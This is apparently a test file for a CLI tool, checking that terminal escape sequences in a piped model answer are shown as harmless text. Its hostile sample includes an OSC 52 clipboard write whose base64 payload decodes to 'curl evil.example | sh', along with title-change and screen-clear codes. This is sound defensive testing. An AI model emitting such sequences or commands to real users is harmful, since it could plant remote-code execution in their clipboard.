/**
 * `smkit ask` piped into a file: the answer's control characters are shown as `\x1b`-style text,
 * as on a terminal, since the file is read on a terminal later (`cat answer.txt`), where an OSC 52
 * clipboard write or a window title change would still run. Plain text, newlines and tabs stay.
 * `--json` keeps the answer exact, as JSON escapes.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { type FakeLlm, reply, startFakeLlm } from '../support/fake-llm'
import { askPiped } from './terminal-run'

let llm: FakeLlm
let workDir: string
beforeAll(async () => {
	llm = await startFakeLlm()
	workDir = await mkdtemp(path.join(tmpdir(), 'smkit-ask-piped-'))
})
afterAll(async () => {
	await llm.stop()
	await rm(workDir, { recursive: true, force: true })
})

const clipboard = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'
const title = '\u001b]0;PWNED\u001b\\'
const hostile = `Café 🌅 results:\n\tluna\t263${clipboard}\n${title}\u001b[2J\u009b31mred\r\u0007done`
/** Any control character but newline and tab: C0, DEL and C1. */
const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/

describe('an answer with escape sequences, piped', () => {
	test('standard output shows them as text, keeping the rest of the answer as it is', async () => {
		for (const quiet of [[], ['--quiet']]) {
			llm.setScript([reply.text(hostile)])
			const result = await askPiped(llm.url, workDir, ['what is up?', ...quiet])
			expect(result.code).toBe(0)
			expect(result.stdout).not.toMatch(control)
			expect(result.stdout).toBe(
				'Café 🌅 results:\n\tluna\t263\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\n' +
					'\\x1b]0;PWNED\\x1b\\\\x1b[2J\\x9b31mred\\x0d\\x07done\n'
			)
			expect(result.stderr).not.toMatch(control)
		}
	})

	test('--parallel --quiet shows them as text too', async () => {
		llm.setScript([reply.text(hostile)])
		const result = await askPiped(llm.url, workDir, ['--parallel', 'what is up?', '--quiet'])
		expect(result.code).toBe(0)
		expect(result.stdout).not.toMatch(control)
		expect(result.stdout).toContain('\\x1b]52;c;')
	})

	test('--json carries the answer exactly, every control character escaped as JSON', async () => {
		llm.setScript([reply.text(hostile)])
		const result = await askPiped(llm.url, workDir, ['what is up?', '--json'])
		expect(result.code).toBe(0)
		expect(result.stdout.replace(/\n/g, '')).not.toMatch(control)
		expect(JSON.parse(result.stdout).answer).toBe(hostile)
	})
})
